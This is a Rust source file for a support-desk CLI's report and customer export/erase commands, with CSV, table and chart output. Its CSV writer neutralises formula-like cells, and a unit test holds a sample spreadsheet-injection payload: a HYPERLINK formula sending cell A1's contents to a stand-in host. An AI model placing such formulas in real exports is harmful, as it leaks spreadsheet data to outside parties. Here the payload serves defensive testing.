//! `crossdesk admin report` (also `crossdesk report`): a tenant's report from the
//! admin API's `GetReport`, as a table, CSV or proto3 JSON; and `crossdesk admin
//! customer export|erase`, a customer's data in the reports.

use anyhow::{Context, Result, bail};
use clap::{Args, Subcommand, ValueEnum};

use crossdesk_proto::{json, pb};

use super::text::table;
use super::{Client, Output};

/// How a report is printed.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Format {
    Table,
    Csv,
    Json,
    /// An SVG chart of the tickets per day.
    VolumeSvg,
    /// An SVG chart of the share of positive ratings per day.
    CsatSvg,
    /// An SVG heatmap of the median first-reply time by language and hour (UTC).
    HeatmapSvg,
}

/// What `crossdesk admin report` asks for.
#[derive(Args)]
pub(crate) struct ReportArgs {
    /// The tenant.
    #[arg(long)]
    pub(super) tenant: String,
    /// The first day (UTC), `YYYY-MM-DD`; default: seven days before --until.
    #[arg(long, value_name = "DATE")]
    pub(super) since: Option<String>,
    /// The day after the last (UTC), `YYYY-MM-DD`; default: today (whole days, the
    /// seven before today unless --since says), or the day after --since when that
    /// is today or later.
    #[arg(long, value_name = "DATE")]
    pub(super) until: Option<String>,
    /// Slice by these, comma-separated: region, country, language, channel, category,
    /// group.
    #[arg(long, value_delimiter = ',', value_name = "DIMENSIONS")]
    pub(super) by: Vec<String>,
    /// How it is printed: a table by default (proto3 JSON with `admin --json`).
    #[arg(long, value_enum)]
    pub(super) format: Option<Format>,
}

#[derive(Subcommand)]
pub(crate) enum CustomerCommand {
    /// Print what the reports keep about a customer (proto3 JSON).
    Export {
        #[arg(long)]
        tenant: String,
        /// The customer's id, as events carry it.
        customer: String,
    },
    /// Erase what the reports keep about a customer.
    Erase {
        #[arg(long)]
        tenant: String,
        customer: String,
    },
}

/// Seconds since the epoch of the start of `YYYY-MM-DD` (UTC).
fn day_start(text: &str) -> Result<prost_types::Timestamp> {
    let date: jiff::civil::Date = text
        .trim()
        .parse()
        .with_context(|| format!("'{text}' is not a date (YYYY-MM-DD)"))?;
    let seconds = date
        .to_zoned(jiff::tz::TimeZone::UTC)
        .context("a date out of range")?
        .timestamp()
        .as_second();
    Ok(prost_types::Timestamp { seconds, nanos: 0 })
}

/// Prints the report `args` ask for; `json`: the admin commands' `--json` was
/// given.
pub(super) async fn report(client: &mut Client, args: ReportArgs, json: bool) -> Result<()> {
    let format = match (args.format, json) {
        (Some(format), true) if format != Format::Json => {
            anyhow::bail!("--json and --format ask for two formats: give one")
        }
        (Some(format), _) => format,
        (None, true) => Format::Json,
        (None, false) => Format::Table,
    };
    let request = pb::GetReportRequest {
        tenant_id: args.tenant,
        since: args.since.as_deref().map(day_start).transpose()?,
        until: args.until.as_deref().map(day_start).transpose()?,
        by: args.by,
    };
    let report = client.get_report(request).await?.into_inner();
    match format {
        Format::Json => println!("{}", json::to_json("crossdesk.v1.Report", &report)?),
        Format::Csv => print!("{}", csv_text(&report)?),
        Format::Table => print!("{}", report_text(&report)),
        Format::VolumeSvg | Format::CsatSvg | Format::HeatmapSvg => {
            print!("{}", chart(&report, format))
        }
    }
    Ok(())
}

/// The report as one of its SVG charts.
fn chart(report: &pb::Report, format: Format) -> String {
    use crossdesk_sidecar::insights::api;
    let tenant = &report.tenant_id;
    match format {
        Format::HeatmapSvg => api::heatmap_chart(
            report,
            &format!("{tenant}: median first reply by language and hour (UTC)"),
        ),
        Format::CsatSvg => {
            api::ratings_chart(report, &format!("{tenant}: positive ratings per day"))
        }
        _ => api::tickets_chart(report, &format!("{tenant}: tickets per day")),
    }
}

pub(super) async fn customer(
    client: &mut Client,
    out: &Output,
    command: CustomerCommand,
) -> Result<()> {
    match command {
        CustomerCommand::Export { tenant, customer } => {
            let data = client
                .export_customer_data(pb::CustomerRef {
                    tenant_id: tenant,
                    customer_id: customer,
                })
                .await?
                .into_inner();
            // Always JSON: it is an export.
            out.json("crossdesk.v1.CustomerData", &data)
        }
        CustomerCommand::Erase { tenant, customer } => {
            let erased = client
                .erase_customer_data(pb::CustomerRef {
                    tenant_id: tenant,
                    customer_id: customer,
                })
                .await?
                .into_inner();
            if out.json {
                return out.json("crossdesk.v1.EraseCustomerDataResponse", &erased);
            }
            println!(
                "erased {} ticket(s) from the reports",
                erased.tickets_erased
            );
            Ok(())
        }
    }
}

/// The columns of a line, after the slice's values.
const MEASURES: [&str; 13] = [
    "tickets",
    "previous_tickets",
    "rated",
    "csat_positive_share",
    "csat_mean",
    "resolution_rate",
    "first_reply_median_seconds",
    "first_reply_p90_seconds",
    "resolution_median_seconds",
    "resolution_p90_seconds",
    "reopen_rate",
    "after_hours_share",
    "change",
];

/// A line's measures as numbers (empty when absent), in [`MEASURES`]' order.
fn values(line: &pb::ReportLine) -> [Option<f64>; 13] {
    [
        Some(line.tickets as f64),
        Some(line.previous_tickets as f64),
        Some(line.rated as f64),
        line.csat_positive_share,
        line.csat_mean,
        line.resolution_rate,
        line.first_reply_median_seconds,
        line.first_reply_p90_seconds,
        line.resolution_median_seconds,
        line.resolution_p90_seconds,
        line.reopen_rate,
        line.after_hours_share,
        change(line),
    ]
}

/// The change of the ticket count against the previous period (1.0 = +100 %).
fn change(line: &pb::ReportLine) -> Option<f64> {
    (line.previous_tickets > 0).then(|| line.tickets as f64 / line.previous_tickets as f64 - 1.0)
}

/// The report's total, as the last row: `(all)` in each slice's column.
fn total_line(report: &pb::Report) -> pb::ReportLine {
    pb::ReportLine {
        key: vec!["(all)".to_owned(); report.by.len()],
        ..report.total.clone().unwrap_or_default()
    }
}

/// The lines of the slices; none when the report is not sliced, whose one line
/// is its total (printed twice, a sum of the rows would count everything twice).
fn sliced(report: &pb::Report) -> &[pb::ReportLine] {
    if report.by.is_empty() {
        &[]
    } else {
        &report.lines
    }
}

/// One row per line and a last `(all)` row; the slice's columns first.
pub(crate) fn csv_text(report: &pb::Report) -> Result<String> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    let mut header: Vec<&str> = report.by.iter().map(String::as_str).collect();
    header.extend(MEASURES);
    writer.write_record(&header)?;
    let all = total_line(report);
    for line in sliced(report).iter().chain(std::iter::once(&all)) {
        let mut record: Vec<String> = line.key.iter().map(|k| inert(k)).collect();
        record.extend(
            values(line)
                .iter()
                .map(|v| v.map_or_else(String::new, |v| v.to_string())),
        );
        writer.write_record(&record)?;
    }
    let bytes = writer.into_inner().map_err(|e| e.into_error())?;
    match String::from_utf8(bytes) {
        Ok(text) => Ok(text),
        Err(_) => bail!("the report is not UTF-8"),
    }
}

/// A slice's value as a spreadsheet shows it, not runs it: groups are named by
/// plugins and custom channels by integrators, and a cell starting with `=`,
/// `+`, `-`, `@` (or a tab or carriage return before one) is a formula to Excel
/// and its kin, so such a value gets a leading `'` (OWASP's advice).
fn inert(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_owned()
    }
}

fn duration(seconds: Option<f64>) -> String {
    let Some(seconds) = seconds else {
        return "-".to_owned();
    };
    let s = seconds.round() as i64;
    match s {
        s if s < 60 => format!("{s}s"),
        s if s < 3_600 => format!("{}m{:02}s", s / 60, s % 60),
        s if s < 86_400 => format!("{}h{:02}m", s / 3_600, s % 3_600 / 60),
        s => format!("{}d{:02}h", s / 86_400, s % 86_400 / 3_600),
    }
}

fn percent(share: Option<f64>) -> String {
    share.map_or_else(|| "-".to_owned(), |s| format!("{:.1}%", s * 100.0))
}

fn signed_percent(share: Option<f64>) -> String {
    share.map_or_else(|| "-".to_owned(), |s| format!("{:+.1}%", s * 100.0))
}

fn date(t: Option<&prost_types::Timestamp>) -> String {
    t.and_then(|t| jiff::Timestamp::from_second(t.seconds).ok())
        .map_or_else(|| "?".to_owned(), |t| t.strftime("%Y-%m-%d").to_string())
}

/// The report as text: the lines, the translation pairs, the spikes.
pub(crate) fn report_text(report: &pb::Report) -> String {
    use std::fmt::Write as _;
    let mut out = String::new();
    let _ = writeln!(
        out,
        "{} from {} to {} (UTC, the end excluded){}",
        report.tenant_id,
        date(report.since.as_ref()),
        date(report.until.as_ref()),
        if report.by.is_empty() {
            String::new()
        } else {
            format!(", by {}", report.by.join(", "))
        }
    );
    let mut headers: Vec<&str> = report.by.iter().map(String::as_str).collect();
    headers.extend([
        "tickets",
        "vs prev",
        "CSAT+",
        "CSAT",
        "resolved",
        "1st reply p50",
        "p90",
        "resolution p50",
        "p90",
        "reopened",
        "after hours",
    ]);
    let all = total_line(report);
    let rows: Vec<Vec<String>> = sliced(report)
        .iter()
        .chain(std::iter::once(&all))
        .map(|line| {
            let mut row: Vec<String> = line
                .key
                .iter()
                .map(|k| {
                    if k.is_empty() {
                        "?".to_owned()
                    } else {
                        k.clone()
                    }
                })
                .collect();
            row.extend([
                line.tickets.to_string(),
                signed_percent(change(line)),
                percent(line.csat_positive_share),
                percent(line.csat_mean),
                percent(line.resolution_rate),
                duration(line.first_reply_median_seconds),
                duration(line.first_reply_p90_seconds),
                duration(line.resolution_median_seconds),
                duration(line.resolution_p90_seconds),
                percent(line.reopen_rate),
                percent(line.after_hours_share),
            ]);
            row
        })
        .collect();
    out.push_str(&table(&headers, &rows));
    if let Some(share) = report.uncategorised_share {
        let _ = writeln!(out, "uncategorised: {}", percent(Some(share)));
    }
    if !report.translation_pairs.is_empty() {
        let rows: Vec<Vec<String>> = report
            .translation_pairs
            .iter()
            .map(|p| {
                vec![
                    format!("{}→{}", p.source_language, p.target_language),
                    p.translated.to_string(),
                    p.corrected.to_string(),
                    percent(p.correction_rate),
                    percent(p.previous_correction_rate),
                ]
            })
            .collect();
        out.push('\n');
        out.push_str(&table(
            &["pair", "translated", "corrected", "rate", "previous"],
            &rows,
        ));
    }
    for spike in &report.spikes {
        let _ = writeln!(
            out,
            "spike: {} on {}: {} tickets, baseline {:.0} ({:.1} sigmas)",
            spike.category,
            date(spike.day.as_ref()),
            spike.tickets,
            spike.baseline,
            spike.sigmas
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn durations_and_dates_read_as_people_write_them() {
        assert_eq!(duration(Some(42.4)), "42s");
        assert_eq!(duration(Some(3_725.0)), "1h02m");
        assert_eq!(duration(Some(2.0 * 86_400.0 + 7_200.0)), "2d02h");
        assert_eq!(duration(None), "-");
        assert_eq!(
            day_start("2026-12-01").expect("a date").seconds,
            1_796_083_200
        );
        assert!(day_start("12/01/2026").is_err());
    }

    /// A group a plugin named like a formula is written so that a spreadsheet
    /// shows it as text.
    #[test]
    fn slice_values_that_look_like_formulas_stay_text() {
        let line = |key: &str| pb::ReportLine {
            key: vec![key.to_owned()],
            tickets: 1,
            ..Default::default()
        };
        let report = pb::Report {
            by: vec!["group".to_owned()],
            lines: vec![
                line("=HYPERLINK(\"http://x/?\"&A1,\"vip\")"),
                line("@SUM(1)"),
                line("billing"),
            ],
            ..Default::default()
        };
        let text = csv_text(&report).expect("csv");
        let cells: Vec<String> = csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(|row| row.expect("a row")[0].to_owned())
            .collect();
        assert_eq!(cells[0], "'=HYPERLINK(\"http://x/?\"&A1,\"vip\")", "{text}");
        assert_eq!(&cells[1..], ["'@SUM(1)", "billing", "(all)"], "{text}");
    }
}
